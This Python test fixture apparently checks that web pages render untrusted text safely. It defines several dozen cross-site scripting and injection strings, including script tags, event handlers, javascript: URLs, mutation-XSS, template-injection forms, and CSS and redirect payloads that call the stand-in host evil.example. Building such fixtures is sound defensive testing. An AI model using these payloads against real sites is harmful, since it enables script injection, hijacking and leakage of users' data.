"""Texts that would run, load, or break out of their place, if a page took one for anything but text.

Each calls `xss(<its number>)`, a function that the tests give to every page, or asks evil.example.
"""

_FORMS = (
    # Markup, out of text, of an attribute, of a comment, of each element that holds text alone.
    "<script>xss(N)</script>",
    "\"'--></style></script><script>xss(N)</script>",
    "</title></textarea></noscript></select></option><img src=x onerror=xss(N)>",
    '"><img src=x onerror="xss(N)">',
    "'><img src=x onerror='xss(N)'>",
    "<img/src=`x`\tonerror=xss(N)//",
    "<input autofocus onfocus=xss(N)><details open ontoggle=xss(N)>",
    '<svg onload=xss(N)><animate onbegin=xss(N) attributeName=x dur=1s><script href="data:,xss(N)"/></svg>',
    '<math><a xlink:href="javascript:xss(N)">x</a></math>',
    '<iframe srcdoc="<script>parent.xss(N)</script>"></iframe><iframe src=javascript:parent.xss(N)></iframe>',
    '<object data="data:text/html,<script>xss(N)</script>"></object><embed src="javascript:xss(N)">',
    '<form action="https://evil.example/"><button formaction="javascript:xss(N)">Show</button></form>',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "]]><![CDATA[<script>xss(N)</script>]]><!--",
    # Attributes.
    '" autofocus onfocus=xss(N) onmouseover=xss(N) x="',
    "' autofocus onfocus=xss(N) onmouseover=xss(N) x='",
    "x onerror=xss(N) onload=xss(N)",
    # Addresses.
    "javascript:xss(N)//",
    "\x0bjava\tscript:xss(N)",
    "data:text/html,<script>xss(N)</script>",
    "//evil.example/\\evil.example",
    # Scripts and JSON in a page.
    "'-xss(N)-'\";xss(N);//\\\";xss(N);//`${xss(N)}`",
    "\\u003cscript\\u003exss(N)\\u003c/script\\u003e\u2028xss(N)\u2029",
    # Templates, here and in the browser; and what replaces parts of sentences.
    "{{7*7}}{% raw %}{{constructor.constructor('xss(N)')()}}${xss(N)}<%= xss(N) %>#{xss(N)}",
    "%(count)s %s {count} {file} {name} $& $1 $`",
    "__proto__",
    "constructor",
    # Styles.
    '<link rel=stylesheet href="https://evil.example/x.css"><style>@import "https://evil.example/";</style>',
    '<p style="position:fixed;inset:0;background:url(https://evil.example/x.png)" class="dialog">x</p>',
    "};*{background:url(https://evil.example/x.png)}",
    # What changes its meaning when it is written and read again.
    '<noscript><p title="</noscript><img src=x onerror=xss(N)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=xss(N)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=xss(N)&gt;">',
    "&lt;img src=x onerror=xss(N)&gt;&#60;script&#62;xss(N)&#60;/script&#62;%3Cscript%3Exss(N)%3C/script%3E",
    # Letters that look like others, or become others.
    "＜script＞xss(N)＜/script＞<ſcript>xss(N)</ſcript>+ADw-script+AD4-xss(N)+ADw-/script+AD4-",
    "\u202egnp.exe\u2066<img src=x onerror=xss(N)>\u200b\ufeff",
    "مرحبا" * 60 + "<b onclick=xss(N)>",
    "W" * 300,
)
#: Each with its own number.
PAYLOADS = tuple(form.replace("xss(N)", f"xss({number})") for number, form in enumerate(_FORMS))
#: All of them, one after the other and in turn, for what there is once.
TOGETHER = (" ".join(PAYLOADS), " ".join(PAYLOADS[::-1]))
